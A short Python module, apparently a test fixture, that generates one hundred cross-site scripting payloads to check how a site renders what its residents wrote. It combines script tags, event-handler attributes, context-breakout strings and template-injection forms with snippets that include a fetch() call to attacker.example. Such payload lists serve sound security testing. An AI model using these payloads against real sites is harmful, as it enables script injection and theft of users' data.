"""A hundred texts that try to run as script, for whatever shows what residents wrote."""

_CODE = ("alert(1)", "document.title='injected'", "fetch('https://attacker.example')", "window.injected=1")
_FORMS = (
    "<script>{}</script>", "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<svg onload={}>",
    "<svg/onload={}>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "<body onload={}>",
    "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", '"><script>{}</script>', "'><img src=x onerror={}>", "${{{}}}",
    "`;{};//", "';{};//", '";{};//', "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "{{{{constructor.constructor('{}')()}}}}",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}>",
)  # fmt: skip

INJECTIONS = tuple(form.format(code) for form in _FORMS for code in _CODE)
